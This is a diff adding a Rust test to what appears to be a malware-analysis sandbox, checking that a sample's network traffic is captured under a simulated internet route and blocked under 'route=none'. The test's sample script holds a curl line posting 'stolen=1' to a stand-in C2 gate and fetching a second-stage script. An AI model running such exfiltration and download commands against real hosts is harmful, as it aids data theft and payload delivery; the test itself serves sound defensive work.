@@ -169,6 +169,41 @@ async fn a_script_is_run_and_reported() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn what_a_sample_says_to_the_internet_is_reported() {
+    let Some(server) = Server::start(2).await else { return };
+    let script =
+        "curl -sS -m 20 -d stolen=1 https://c2.example/gate.php; curl -sS -m 20 http://cdn.example/next.sh";
+    let task = server.submit("talk.sh", script, &[]).await;
+    let without = server.submit("talk.sh", script, &[("options", "route=none")]).await;
+    let shown = server.ended(task).await;
+    assert_eq!((&shown["errors"], &shown["route"]), (&json!([]), &json!("fake")), "{shown:#}");
+    let network = server.report(task).await["network"].clone();
+    let secret = &network["https_ex"][0];
+    assert_eq!((&secret["host"], &secret["uri"]), (&json!("c2.example"), &json!("/gate.php")), "{network:#}");
+    let body = secret["req"]["path"]
+        .as_str()
+        .unwrap()
+        .strip_prefix(&format!("analyses/{task}/"))
+        .unwrap()
+        .to_owned();
+    assert_eq!(server.file(task, &body), "stolen=1");
+    let uris: Vec<&str> =
+        network["http"].as_array().unwrap().iter().map(|http| http["uri"].as_str().unwrap()).collect();
+    assert_eq!(uris, ["http://cdn.example/next.sh", "https://c2.example/gate.php"]);
+    assert_eq!(network["tls"][0]["sni"], "c2.example");
+    let domains = network["domains"].as_array().unwrap();
+    assert!(
+        domains.iter().any(|domain| domain["domain"] == "c2.example" && domain["ip"] == secret["dst"]),
+        "{domains:?}"
+    );
+    assert_eq!(network["dead_hosts"], json!([]));
+    let shown = server.ended(without).await;
+    assert_eq!((&shown["errors"], &shown["route"]), (&json!([]), &json!("none")), "{shown:#}");
+    let network = server.report(without).await["network"].clone();
+    assert_eq!((&network["https_ex"], &network["http"]), (&json!([]), &json!([])));
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn two_run_side_by_side_and_never_meet() {
     let Some(server) = Server::start(2).await else { return };
     let script = "head -c 16 /dev/urandom | od -An -tx1; cat /proc/sys/kernel/random/uuid; ls /tmp; echo mine > /tmp/$1; sleep 2; ls /tmp";
